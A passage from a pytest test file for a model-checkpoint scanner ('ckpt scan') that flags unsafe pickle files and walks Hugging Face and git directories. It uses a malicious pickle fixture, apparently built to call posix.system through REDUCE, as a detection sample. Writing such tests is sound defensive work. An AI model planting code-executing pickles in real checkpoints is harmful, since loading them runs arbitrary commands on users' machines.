    assert res.returncode == 1, res.describe()
    lines = res.stdout.splitlines()
    assert lines[0] == f"{made['saved.pt']}: safe"
    assert lines[1].startswith(f"{made['broken.pkl']}: unsafe (2 findings")
    assert lines[2].startswith("  global posix.system('true') (called by REDUCE; runs code)")
    assert lines[3].startswith("  broken_pickle")
    assert lines[4] == "2 files: 1 safe, 0 warning, 1 unsafe, 0 errors, 0 skipped"
    res = tool.run("scan", "--help")
    assert res.returncode == 0 and res.stdout.startswith("usage: ckpt scan")
    assert tool.run("scan").returncode == 2
    assert tool.run("scan", made["saved.pt"], "--bogus").returncode == 2
    assert tool.run("scan", made["saved.pt"], "--allow").returncode == 2


def test_directories_are_walked(tool, made, tmp_path):
    d = tmp_path / "tree"
    (d / "sub").mkdir(parents=True)
    (d / "b.pt").write_bytes(made["saved.pt"].read_bytes())
    (d / "sub" / "a.pkl").write_bytes(made["broken.pkl"].read_bytes())
    js = scan_json(tool, d, code=1)
    assert [pathlib.Path(f["file"]).name for f in js["files"]] == ["b.pt", "a.pkl"]
    assert js["skipped"] == 0


def test_hugging_face_directory(tool, made, tmp_path):
    """A clean model repository: its configs, tokenizer and README are skipped, its
    weights are scanned, and the exit status is 0."""
    d = tmp_path / "model"
    d.mkdir()
    (d / "config.json").write_text(json.dumps({"architectures": ["Tiny"], "hidden_size": 2}))
    (d / "tokenizer.json").write_text(json.dumps({"version": "1.0", "model": {"vocab": {}}}))
    (d / "tokenizer_config.json").write_text("{}")
    (d / "README.md").write_text("# tiny\n\nA model card.\n")
    (d / "vocab.txt").write_text("[PAD]\n[UNK]\n")
    (d / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(64))
    (d / "model.safetensors").write_bytes(made["good.safetensors"].read_bytes())
    torch.save({"lin.weight": torch.ones(2, 2), "lin.bias": torch.zeros(2)},
               d / "pytorch_model.bin")
    res = tool.run("scan", d)
    assert res.returncode == 0, res.describe()
    lines = res.stdout.splitlines()
    assert lines == [f"{d}/model.safetensors: safe", f"{d}/pytorch_model.bin: safe",
                     "2 files: 2 safe, 0 warning, 0 unsafe, 0 errors, 6 skipped"]
    js = scan_json(tool, d, code=0)
    assert (js["safe"], js["skipped"]) == (2, 6)
    # a checkpoint under any name is found by its content
    (d / "weights").write_bytes(made["saved.pt"].read_bytes())
    (d / "payload").write_bytes(POSIX_SYSTEM)
    js = scan_json(tool, d, code=1)
    names = {pathlib.Path(f["file"]).name: f["verdict"] for f in js["files"]}
    assert names == {"model.safetensors": "safe", "pytorch_model.bin": "safe",
                     "weights": "safe", "payload": "unsafe"}


def test_git_and_hidden_directories_are_skipped(tool, made, tmp_path):
    d = tmp_path / "repo"
    for sub in (".git/objects/ab", ".cache/huggingface", "sub"):
        (d / sub).mkdir(parents=True)
    for i in range(20):
        (d / ".git" / "objects" / "ab" / f"{i:038x}").write_bytes(zlib.compress(b"blob 3\0abc"))
    (d / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (d / ".cache" / "huggingface" / "evil.pkl").write_bytes(POSIX_SYSTEM)
    (d / ".gitattributes").write_text("*.bin filter=lfs diff=lfs merge=lfs -text\n")
    (d / "sub" / "model.pt").write_bytes(made["with_version.pt"].read_bytes())
    res = tool.run("scan", d)
    assert res.returncode == 0, res.describe()
    lines = res.stdout.splitlines()
    assert lines[0].startswith(f"{d}/sub/model.pt: warning")
    assert lines[-1] == "1 files: 0 safe, 1 warning, 0 unsafe, 0 errors, 3 skipped"
    assert tool.run("scan", "--fail-on", "warning", d).returncode == 1
    # named on the command line, a hidden file is scanned like any other
    assert tool.run("scan", d / ".cache" / "huggingface" / "evil.pkl").returncode == 1
